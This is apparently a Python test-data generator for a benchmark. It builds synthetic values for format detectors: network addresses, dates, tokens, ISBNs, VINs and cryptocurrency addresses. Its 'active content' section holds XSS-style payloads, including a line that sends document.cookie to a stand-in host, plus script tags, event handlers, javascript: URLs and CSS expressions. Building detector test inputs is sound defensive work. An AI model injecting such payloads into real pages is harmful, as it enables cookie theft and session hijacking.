"""Values with a form of their own: addresses in networks, times, formats, amounts, crypto addresses, active content.

Made from their standards: RFC 3986, 4291, 7519, 7468, 9562, ISO 8601, SemVer 2.0.0, base58check, BIP-173 and BIP-350,
the HTML standard's lists of elements and events. Nothing here looks at a pattern of the standard library.
"""

from __future__ import annotations

import base64
import hashlib
import json
from ipaddress import IPv4Address, IPv6Address

from stdnum import imei, isbn

from benchmarks.quality.draw import DIGITS, Draw, Kind

__all__ = ["FORMS"]

HEX = "0123456789abcdef"
LETTERS = "abcdefghijklmnopqrstuvwxyz"
UPPER = LETTERS.upper()
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
RIPPLE = "rpshnaf39wBUDNEGHJKLM4PQRST7VWXYZ2bcdeCg65jkm8oFqi1tuvAxyz"
BECH32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


# --- crypto --------------------------------------------------------------------------------------------------


def base58check(draw: Draw, version: int, alphabet: str = BASE58) -> str:
    data = bytes([version]) + draw.rng.randbytes(20)
    data += hashlib.sha256(hashlib.sha256(data).digest()).digest()[:4]
    number, text = int.from_bytes(data, "big"), ""
    while number:
        number, rest = divmod(number, 58)
        text = alphabet[rest] + text
    return alphabet[0] * (len(data) - len(data.lstrip(b"\0"))) + text


def polymod(values: list[int]) -> int:
    check = 1
    for value in values:
        top, check = check >> 25, (check & 0x1FFFFFF) << 5 ^ value
        for bit, generator in enumerate((0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)):
            check ^= generator if top >> bit & 1 else 0
    return check


def bech32(draw: Draw, human: str) -> str:
    version, size = draw.rng.choice([(0, 20), (0, 32), (1, 32)])
    bits = "".join(f"{byte:08b}" for byte in draw.rng.randbytes(size))
    bits += "0" * (-len(bits) % 5)
    data = [version] + [int(bits[place : place + 5], 2) for place in range(0, len(bits), 5)]
    spread = [ord(sign) >> 5 for sign in human] + [0] + [ord(sign) & 31 for sign in human]
    check = polymod(spread + data + [0] * 6) ^ (1 if version == 0 else 0x2BC830A3)
    return human + "1" + "".join(BECH32[value] for value in data + [check >> 5 * (5 - n) & 31 for n in range(6)])


# --- formats -------------------------------------------------------------------------------------------------


def url64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(draw: Draw) -> str:
    head = {"alg": draw.one("HS256", "RS256", "ES256"), "typ": "JWT"}
    claims = {
        "sub": draw.digits(8),
        "iat": draw.rng.randint(1_600_000_000, 1_800_000_000),
        "name": draw.faker("en_US").name(),
    }
    parts = [url64(json.dumps(part, separators=(",", ":")).encode()) for part in (head, claims)]
    return ".".join((*parts, url64(draw.rng.randbytes(draw.rng.choice((32, 64))))))


def pem(draw: Draw) -> str:
    label = draw.one("CERTIFICATE", "PUBLIC KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY", "CERTIFICATE REQUEST")
    body = base64.b64encode(draw.rng.randbytes(draw.rng.randint(60, 400))).decode()
    lines = "\n".join(body[place : place + 64] for place in range(0, len(body), 64))
    return f"-----BEGIN {label}-----\n{lines}\n-----END {label}-----"


def semver(draw: Draw) -> str:
    core = ".".join(str(draw.rng.randint(0, 40)) for _ in range(3))
    return (
        draw.one("", "v") + core + draw.one("", "", "-rc.1", "-alpha", "-beta.2+build.5", "+20130313144700", "-0.3.7")
    )


def coordinates(draw: Draw) -> str:
    north, east = draw.rng.uniform(-89, 89), draw.rng.uniform(-179, 179)
    return draw.one(f"{north:.4f}, {east:.4f}", f"{north:.6f},{east:.6f}", f"{abs(north):.4f}° N, {abs(east):.4f}° E")


def vin(draw: Draw) -> str:
    alphabet = "0123456789ABCDEFGHJKLMNPRSTUVWXYZ"
    return draw.until(vin_good, lambda: draw.of("123456JKLSTVWYZ", 1) + draw.of(alphabet, 11) + draw.of(DIGITS, 5))


def vin_good(number: str) -> bool:
    values = dict(
        zip(
            "0123456789ABCDEFGHJKLMNPRSTUVWXYZ",
            [*range(10), *range(1, 9), 1, 2, 3, 4, 5, 7, 9, *range(2, 10)],
            strict=True,
        )
    )
    weights = (8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2)
    total = sum(values[sign] * weight for sign, weight in zip(number, weights, strict=True)) % 11
    return (
        number[8] == "0123456789X"[total]
        and any(sign.isalpha() for sign in number)
        and number[9] in "123456789ABCDEFGHJKLMNPRSTVWXY"
    )


def isbn_plain(draw: Draw) -> str:
    return draw.until(isbn.is_valid, lambda: draw.one("978", "979", "") + draw.of(DIGITS, 9) + draw.one(*DIGITS))


def isbn_hyphens(draw: Draw) -> str:
    group = draw.one("0", "1", "2", "3")
    return draw.until(
        isbn.is_valid,
        lambda: f"{draw.one('978-', '')}{group}-{draw.digits(3)}-{draw.digits(5)}-{draw.digits(1)}",
    )


def imei_number(draw: Draw) -> str:
    number = draw.until(imei.is_valid, lambda: draw.one("35", "86", "01") + draw.of(DIGITS, 13))
    return draw.one(number, f"{number[:2]}-{number[2:8]}-{number[8:14]}-{number[14]}")


# --- networks ------------------------------------------------------------------------------------------------


def ipv4(draw: Draw) -> str:
    return str(IPv4Address(draw.rng.randint(1 << 24, (224 << 24) - 1)))


def ipv6(draw: Draw) -> str:
    prefix = draw.rng.choice((0x2001, 0x2A00, 0x2600, 0xFD12, 0xFE80)) << 112
    low = draw.rng.getrandbits(draw.rng.choice((16, 64, 112)))
    return draw.one(
        *(IPv6Address(prefix | low).__getattribute__(form) for form in ("compressed", "compressed", "exploded"))
    )


def mac(draw: Draw) -> str:
    text = draw.of(draw.one(HEX, HEX.upper()), 12)
    pairs = [text[place : place + 2] for place in range(0, 12, 2)]
    return draw.one(":".join(pairs), "-".join(pairs), ".".join(text[place : place + 4] for place in (0, 4, 8)))


def host(draw: Draw) -> str:
    name = draw.one(draw.of(LETTERS, 6), "acme-" + draw.of(LETTERS, 4), draw.of(LETTERS, 4) + draw.of(DIGITS, 2))
    return (
        draw.one("", "www.", "api.", "shop.")
        + name
        + draw.one(".com", ".org", ".de", ".co.uk", ".io", ".fr", ".com.br", ".net")
    )


def path(draw: Draw) -> str:
    word = draw.of(LETTERS, 5)
    return draw.one(
        f"/{word}",
        f"/{word}/{draw.digits(3)}",
        f"/{word}?q={draw.of(LETTERS, 4)}&p=2",
        f"/{word}#part-{draw.digits(1)}",
        f"/{word}/index.html",
    )


def url(draw: Draw) -> str:
    return (
        draw.one("https", "https", "http", "ftp")
        + "://"
        + host(draw)
        + draw.one("", ":8443")
        + draw.one("", "/", path(draw))
    )


# --- times and amounts ---------------------------------------------------------------------------------------


def moment(draw: Draw, form: str) -> str:
    return draw.faker("en_US").date_time_between("-40y", "now").strftime(form)


def date_time(draw: Draw) -> str:
    return moment(draw, draw.one("%Y-%m-%dT%H:%M:%S", "%Y-%m-%d %H:%M", "%Y-%m-%d %H:%M:%S")) + draw.one(
        "", "Z", "+02:00", "-0500"
    )


def duration(draw: Draw) -> str:
    n = draw.rng.randint(1, 59)
    return draw.one(f"PT{n}M", f"P{n}D", f"P{n}W", f"P1Y2M{n}DT3H", f"PT{n}H30M", f"PT{n}.5S", f"P{n}.5Y", f"PT{n},25H")


def week_date(draw: Draw) -> str:
    year, week, day = draw.faker("en_US").date_object().isocalendar()
    return draw.one(f"{year}-W{week:02}", f"{year}-W{week:02}-{day}")


def host_port(draw: Draw) -> str:
    name = draw.one(
        "localhost", ipv4(draw), host(draw), internal(draw), f"{draw.of(LETTERS, 5)}-{draw.rng.randint(1, 20)}"
    )
    return f"{name}:{draw.rng.choice((443, 3306, 5432, 6379, 8080, 9092, draw.rng.randint(1024, 65535)))}"


def internal(draw: Draw) -> str:
    names = [draw.of(LETTERS, draw.rng.randint(2, 8)) for _ in range(draw.rng.randint(1, 3))]
    return f"{'.'.join(names)}.{draw.one('internal', 'lan', 'corp', 'intranet', 'home.arpa', 'svc.cluster.local')}"


def price(draw: Draw) -> str:
    amount = draw.rng.randint(1, 9_999)
    english, german = f"{amount:,}.{draw.of(DIGITS, 2)}", f"{amount:,}".replace(",", ".") + "," + draw.of(DIGITS, 2)
    return draw.one(
        f"${english}",
        f"{german} €",
        f"EUR {english}",
        f"£{english}",
        f"R$ {german}",
        f"{english} USD",
        f"₹{amount:,}",
        f"¥{amount}",
        f"{amount} EUR",
        f"{german} zł",
    )


# --- active content, by the HTML standard --------------------------------------------------------------------

EVENTS = (
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onanimationend",
    "onpointerdown",
    "ontoggle",
    "onbeforeinput",
    "onpaste",
)
CALLS = ("alert(1)", "fetch('//a.example/'+document.cookie)", "eval(name)", "location='//a.example'")
PLAIN = ("p", "div", "img", "body", "a", "details", "video", "input", "button", "marquee")


def cased(draw: Draw, text: str) -> str:
    return draw.one(text, text, text.upper(), text.title())


def script(draw: Draw) -> str:
    return draw.one(
        f"<{cased(draw, 'script')}>{draw.one(*CALLS)}</script>",
        f'<script src="//{host(draw)}/x.js"></script>',
        "<script type=module>",
        "<script\n>",
    )


def handler(draw: Draw) -> str:
    quote = draw.one('"', "'", "")
    return f"<{draw.one(*PLAIN)}{draw.one(' ', '/', chr(10))}{cased(draw, draw.one(*EVENTS))}{draw.one('=', ' = ')}{quote}{draw.one('alert(1)', 'go()')}{quote}>"


def script_url(draw: Draw) -> str:
    target = cased(draw, "javascript:") + draw.one(*CALLS[:1], "void(0)")
    return draw.one(
        f'<a href="{target}">x</a>',
        f"[x]({target})",
        '<a href="java&#10;script:alert(1)">x</a>',
        '<iframe src="data:text/html,x">',
    )


def image(draw: Draw) -> str:
    return f"![{draw.one('', 'logo', 'a chart')}](https://{host(draw)}/{draw.of(LETTERS, 5)}.png)"


def data_link(draw: Draw) -> str:
    return f"[more](https://{host(draw)}/?q={draw.of(LETTERS + DIGITS, draw.rng.randint(40, 120))})"


def form(name, make, labels, unseen, *, detectors=(), **more):
    """A kind with one detector of that name."""
    return Kind(name, (name, *detectors), make, labels, unseen, **more)


ADDRESS = ("wallet", "address", "Wallet")
ADDRESS_UNSEEN = ("deposit address", "Adresse", "recipient")
BROKEN = (
    "web.any_tag",
    "web.event_handler",
    "web.script_url",
    "web.embedded_page",
    "web.form_tag",
    "web.script_tag",
    "web.svg_or_math",
)
IP = ("net.ipv4", "pii.ipv4", "pii.ipv6")

FORMS = (
    form("pii.ipv4", ipv4, ("ip", "IP address", "host"), ("client", "remote_addr", "server"), also=IP),
    form("net.ipv4", ipv4, ("ip", "IP address", "host"), ("client", "remote_addr", "server"), also=IP),
    form("pii.ipv6", ipv6, ("ip", "IP address", "host"), ("client", "remote_addr", "server"), also=IP),
    form("net.ipv4_cidr", lambda draw: f"{ipv4(draw)}/{draw.rng.randint(8, 30)}", ("subnet", "CIDR"), ("network", "allow"), also=IP),
    form("net.ipv6_cidr", lambda draw: f"{ipv6(draw)}/{draw.rng.randint(16, 96)}", ("subnet", "CIDR"), ("network", "allow"), also=IP),
    form("net.mac", mac, ("mac", "MAC address"), ("device", "hardware address"), also=("pii.ipv6",)),
    form("net.url", url, ("link", "url", "see"), ("website", "homepage", "Quelle"), also=("net.domain", "net.url_without_scheme")),
    form("net.url_without_scheme", lambda draw: draw.one("www." + host(draw).removeprefix("www."), host(draw) + path(draw)), ("link", "site"), ("website", "Seite"), also=("net.domain",)),
    form("net.domain", host, ("domain", "site"), ("hostname", "zone"), also=("net.url_without_scheme",)),
    form("net.host", host, ("host",), ("server",), whole=True),
    form("time.date", lambda draw: moment(draw, "%Y-%m-%d"), ("date", "created", "Datum"), ("due", "fecha", "on"), also=("time.date_time",),
         near_miss=(lambda draw: draw.one("2023-02-30", "2023-13-01", "2023-00-10", "2023-4-5", "20230-01-01"),)),
    form("time.time", lambda draw: moment(draw, draw.one("%H:%M", "%H:%M:%S", "%H:%M:%SZ")), ("time", "Uhrzeit", "at"), ("start", "hora", "from"), near_miss=(lambda draw: draw.one("24:61", "7:5", "12:345", "99:10"),)),
    form("time.date_time", date_time, ("created_at", "timestamp"), ("updated", "Zeitpunkt"), also=("time.date", "time.time")),
    form("time.duration", duration, ("duration", "timeout"), ("Dauer", "length"), near_miss=(lambda draw: draw.one("PT", "P", "P1", "P1H", "PTO"),)),
    form("money.price", price, ("price", "total", "Preis"), ("cost", "importe", "Betrag"), near_miss=(lambda draw: draw.one("$x", "$1a", "EUR", "€"),)),
    form("format.uuid", lambda draw: "-".join((draw.of(HEX, 8), draw.of(HEX, 4), "4" + draw.of(HEX, 3), "a" + draw.of(HEX, 3), draw.of(HEX, 12))), ("id", "request"), ("trace", "correlation id")),
    form("format.semver", semver, ("version", "release"), ("tag", "Fassung"), near_miss=(lambda draw: draw.one("1.2", "1.2.3.4", "01.2.3", "1.02.3"),)),
    form("format.hex_colour", lambda draw: "#" + draw.of(draw.one(HEX, HEX.upper()), draw.rng.choice((3, 6, 6, 8))), ("color", "background"), ("fill", "Farbe"), near_miss=(lambda draw: draw.one("#12345", "#ggg", "#1"),)),
    form("format.jwt", jwt, ("token", "jwt"), ("id_token", "session")),
    form("format.pem", pem, ("cert", "key"), ("tls", "Zertifikat"), also=("format.base64",)),
    form("format.coordinates", coordinates, ("location", "coords"), ("position", "Standort"), near_miss=(lambda draw: draw.one("91.5, 2.5", "1.5, 2.5", "48.8584, 192.2945"),)),
    form("format.isbn", isbn_hyphens, ("isbn", "ISBN"), ("ISBN-13", "book"), good=isbn.is_valid, also=("format.isbn_digits",)),
    form("format.isbn_digits", isbn_plain, ("isbn", "ISBN"), ("ISBN-13", "ISBN-10"), good=isbn.is_valid, word=True, also=("format.isbn",)),
    form("format.vin", vin, ("vin", "VIN"), ("chassis", "Fahrgestellnummer"), good=vin_good),
    form("format.imei", imei_number, ("imei", "IMEI"), ("IMEI number", "device ID"), good=imei.is_valid, word=True),
    form("format.json_pointer", lambda draw: path(draw).split("?")[0].split("#")[0] + draw.one("", "/0", "/a~1b"), ("pointer",), ("pointer",), whole=True),
    form("format.base64", lambda draw: base64.b64encode(draw.rng.randbytes(draw.rng.randint(1, 60))).decode(), ("data",), ("blob",), whole=True),
    form("format.base64url", lambda draw: url64(draw.rng.randbytes(draw.rng.randint(1, 60))), ("data",), ("blob",), whole=True),
    form("crypto.btc", lambda draw: base58check(draw, draw.rng.choice((0, 5))), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.btc_segwit", lambda draw: cased(draw, bech32(draw, "bc")).replace("Bc1", "bc1") if draw.rng.random() < 0 else bech32(draw, draw.one("bc", "bc", "tb")), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.eth", lambda draw: "0x" + draw.of(HEX, 40), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.ltc", lambda draw: base58check(draw, draw.rng.choice((48, 50))), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.ltc_segwit", lambda draw: bech32(draw, "ltc"), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.doge", lambda draw: base58check(draw, 30), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.tron", lambda draw: base58check(draw, 65), ADDRESS, ADDRESS_UNSEEN),
    form("crypto.xrp", lambda draw: base58check(draw, 0, RIPPLE), ADDRESS, ADDRESS_UNSEEN),
    form("web.script_tag", script, ("comment",), ("bio",), also=BROKEN),
    form("web.embedded_page", lambda draw: f'<{draw.one("iframe", "object", "embed", "frame")} {draw.one("src", "data")}="//{host(draw)}/">', ("comment",), ("bio",), also=BROKEN),
    form("web.event_handler", handler, ("comment",), ("bio",), also=BROKEN),
    form("web.script_url", script_url, ("comment",), ("bio",), also=BROKEN),
    form("web.srcdoc", lambda draw: f'<iframe {draw.one("", "width=1 ")}srcdoc="<p>x</p>"></iframe>', ("comment",), ("bio",), also=BROKEN),
    form("web.meta_refresh", lambda draw: draw.one(f'<meta http-equiv="refresh" content="0; url=//{host(draw)}">', f'<base href="//{host(draw)}/">', f'<link rel=stylesheet href="//{host(draw)}/a.css">'), ("comment",), ("bio",), also=BROKEN),
    form("web.svg_or_math", lambda draw: draw.one("<svg onload=alert(1)>", "<svg><animate attributeName=href>", "<math><mi>x</mi></math>", f"<svg width={draw.digits(2)}>"), ("comment",), ("bio",), also=BROKEN),
    form("web.css_script", lambda draw: f'<p style="width:{draw.one("expression(alert(1))", "e/**/xpression(go())")}">', ("comment",), ("bio",), also=BROKEN),
    form("web.form_tag", lambda draw: draw.one(f'<form action="//{host(draw)}/">', "<input type=password>", "<textarea>", '<button type="submit">', "<select>"), ("comment",), ("bio",), also=BROKEN),
    form("web.any_tag", lambda draw: draw.one("<b>", "</p>", "<br/>", '<span class="x">', "<h2>", "<table border=1>", "<em>"), ("comment",), ("bio",), also=BROKEN),
    form("web.markdown_image", image, ("comment",), ("bio",), also=("net.url",)),
    form("web.markdown_data_link", data_link, ("comment",), ("bio",), also=("net.url",)),
    form("net.host_port", host_port, ("endpoint", "server", "host"), ("upstream", "address", "broker"), also=("net.domain", "net.url_without_scheme", "net.internal_host", *IP), near_miss=(lambda draw: draw.one("server.py:42", "main.go:120", "see note:1234", "db-1:99999"),)),
    form("net.internal_host", internal, ("host", "server"), ("machine", "node"), also=("net.host_port", "net.domain", "net.url_without_scheme"), near_miss=(lambda draw: draw.one("self.local", "jdk.internal.misc", "x.lan.y"),)),
    form("time.week_date", week_date, ("week", "Woche"), ("kw", "semana"), near_miss=(lambda draw: draw.one("2026-W54", "2026-W00", "2021-W53-1", "12026-W10"),), solid=True),
    form("time.ordinal_date", lambda draw: moment(draw, "%Y-%j"), ("day", "date"), ("jour", "on"), near_miss=(lambda draw: draw.one("2026-366", "2026-000", "2026-3300", "CVE-2026-330"),), solid=True),
    form("time.basic_date", lambda draw: moment(draw, "%Y%m%d"), ("date", "Datum", "start_date"), ("due", "fecha", "date of issue"), word=True, also=("ids.birth_date",)),
    form("time.basic_date_time", lambda draw: moment(draw, draw.one("%Y%m%dT%H%M%SZ", "%Y%m%dT%H%M", "%Y%m%dT%H%M%S+0200")), ("created_at", "timestamp"), ("updated", "Zeitpunkt"), near_miss=(lambda draw: draw.one("20230229T120000Z", "20261126T250000", "20261126T12300"),)),
    form("format.json_pointer_named", lambda draw: f'"{path(draw).split("?")[0].split("#")[0]}{draw.one("", "/0", "/a~1b")}"', ("JSON pointer", "pointer"), ("json_pointer", "instancePath"), word=True),
    Kind("format.base64, in a text", ("format.base64",), lambda draw: base64.b64encode(draw.rng.randbytes(draw.rng.choice((16, 20, 32, 64, 100)))).decode(), ("data", "digest"), ("blob", "payload")),
)  # fmt: skip
